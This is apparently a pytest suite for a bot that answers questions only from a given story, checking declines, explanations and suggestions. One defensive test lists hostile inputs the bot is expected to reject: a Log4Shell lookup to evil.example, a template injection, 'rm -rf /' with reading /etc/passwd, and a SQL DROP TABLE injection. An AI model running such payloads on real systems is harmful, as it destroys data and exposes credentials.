"""It answers what the story tells, and declines or offers rather than guesses."""

from __future__ import annotations

import pytest

from bot.compose.stories import service_for
from bot.core.model import Answered, Chatted, Declined, DeclineReason, Story, Suggested
from tests.core.invented import RESIGNED, a_fact, answered_by, ask, spoken_of, told_by


@pytest.mark.parametrize(
    ("question", "fact"),
    [
        ("how much does a ticket cost since the fare was cut", "fare"),
        ("how much does a ticket for the ferry cost after the cut of the fare", "fare"),
    ],
)
def test_a_false_premise_is_declined_with_what_the_story_does_say(question: str, fact: str) -> None:
    reply = ask(question)
    assert isinstance(reply, Declined)
    assert reply.reason is DeclineReason.FALSE_PREMISE
    assert spoken_of(reply) == (fact,)


OTHER_THINGS = (
    "What is the weather like?",
    "who won the world cup",
    "how do I bake bread",
    "what is the capital of France",
    "tell me a joke",
)


@pytest.mark.parametrize("question", OTHER_THINGS)
def test_answers_nothing_that_has_nothing_to_do_with_the_story(question: str) -> None:
    assert not isinstance(ask(question), Answered)


def test_declines_most_of_what_has_nothing_to_do_with_the_story() -> None:
    declined = [reply for reply in map(ask, OTHER_THINGS) if isinstance(reply, Declined | Chatted)]
    assert len(declined) >= 4
    for reply in declined:
        if isinstance(reply, Chatted):
            continue
        assert reply.reason is DeclineReason.NOT_IN_STORY
        assert reply.fact is None


@pytest.mark.parametrize(
    "question",
    [
        "When will the bridge reopen?",
        "how long is the repair going to take",
        "reopening date",
    ],
)
def test_declines_a_known_unknown_and_says_what_is_not_told(question: str) -> None:
    reply = ask(question)
    assert isinstance(reply, Declined)
    assert reply.reason is DeclineReason.UNKNOWN_TO_STORY
    assert spoken_of(reply) == ("reopening",)


def test_does_not_tell_another_fact_where_a_known_unknown_is_asked_in_other_words() -> None:
    reply = ask("when does the bridge open again")
    assert reply.candidates[0].fact.id == "reopening"
    assert told_by(reply) is None


@pytest.mark.parametrize(
    ("nothing", "reason"),
    [
        ("", DeclineReason.EMPTY),
        ("   \n\t", DeclineReason.EMPTY),
        ("?!", DeclineReason.EMPTY),
        ("😀🎉👍", DeclineReason.EMPTY),
        ("\x00\x07\x1b", DeclineReason.EMPTY),
        ("\u202e\u200f\u200b", DeclineReason.EMPTY),
        ("\ud800", DeclineReason.EMPTY),
        ("<@123456>", DeclineReason.EMPTY),
        ("why is the bridge shut? " * 4200, DeclineReason.TOO_LONG),
        ("a" * 100_000, DeclineReason.TOO_LONG),
        ("{{7*7}}", DeclineReason.NOT_IN_STORY),
        ("${jndi:ldap://evil.example/a}", DeclineReason.NOT_IN_STORY),
        ("; rm -rf / && cat /etc/passwd", DeclineReason.NOT_IN_STORY),
        ("'; DROP TABLE facts; --", DeclineReason.NOT_IN_STORY),
        ("xxxxx yyyyy zzzzz", DeclineReason.NOT_IN_STORY),
    ],
)
def test_declines_shortly_what_is_no_question(nothing: str, reason: DeclineReason) -> None:
    reply = ask(nothing)
    assert isinstance(reply, Declined)
    assert reply.reason is reason
    assert reply.fact is None
    assert reply.explanation.decision
    assert len(reply.explanation.decision) < 80


def test_right_to_left_marks_inside_a_question_change_nothing() -> None:
    assert answered_by(ask("\u202ewhy is the br\u200bidge shut\u202c")) == "bridge-shut"


EVERY_OUTCOME = (
    "how much did the ferry cost",
    "when will the bridge reopen",
    "was the fare cut",
    "did the mayor not resign",
    "how much was the vessel",
    "what is the weather like",
    "hello",
    "",
    "a" * 2000,
)


@pytest.mark.parametrize("question", EVERY_OUTCOME, ids=range(len(EVERY_OUTCOME)))
def test_every_reply_explains_itself(question: str) -> None:
    assert ask(question).explanation.decision


@pytest.mark.parametrize("question", EVERY_OUTCOME, ids=range(len(EVERY_OUTCOME)))
def test_at_most_three_candidates_with_scores_from_0_to_1(question: str) -> None:
    reply = ask(question)
    assert len(reply.candidates) <= 3
    assert all(0.0 <= candidate.score <= 1.0 for candidate in reply.candidates)


def test_the_explanation_shows_what_was_read_mended_and_weighed() -> None:
    explanation = ask("How much did the fery cost?").explanation
    assert explanation.normalised == "how much did the fery cost"
    assert ("fery", "ferry") in explanation.repairs
    assert dict(explanation.evidence).keys() >= {"score", "margin"}
    assert 0 < explanation.offer_threshold < explanation.answer_threshold < 1


def test_offers_at_most_three_facts_the_likeliest_first() -> None:
    reply = ask("did the mayor not resign")
    assert isinstance(reply, Suggested)
    assert 1 <= len(reply.suggestions) <= 3
    assert reply.suggestions[0] is RESIGNED


def test_offers_nothing_that_is_ten_times_less_likely_than_the_best() -> None:
    replies = [
        ask(question) for question in ("what of the mayor", "the ferry's builder and launch")
    ]
    offered = [reply for reply in replies if isinstance(reply, Suggested)]
    assert offered
    for reply in offered:
        best = reply.candidates[0].score
        near = [one.fact for one in reply.candidates if one.score >= best / 10]
        assert list(reply.suggestions) == near


@pytest.mark.parametrize(
    "question", ["How do I launch my own ferry?", "Is my ferry worth 48 million crowns?"]
)
def test_does_not_tell_people_about_themselves(question: str) -> None:
    assert not isinstance(ask(question), Answered)


def test_tells_people_what_they_ask_for_themselves() -> None:
    story = Story(
        "The museum",
        (
            a_fact(
                "opening",
                """When can I visit the museum?
                opening hours of the museum
                at what time does the museum open""",
                "The museum opens at ten.",
            ),
        ),
    )
    assert answered_by(ask("When can I visit the museum?", service_for(story))) == "opening"


@pytest.mark.parametrize("question", ["how much was my ferry", "who is my mayor", "how old am I"])
def test_a_question_about_the_asker_is_not_told_of_others(question: str) -> None:
    reply = ask(question)
    assert "asker" in {note.guard for note in reply.explanation.guards}
    assert told_by(reply) is None


@pytest.mark.parametrize("question", ["where do I buy a ferry ticket", "can we cross the bridge"])
def test_what_the_asker_may_do_is_asked_for_anyone(question: str) -> None:
    assert "asker" not in {note.guard for note in ask(question).explanation.guards}
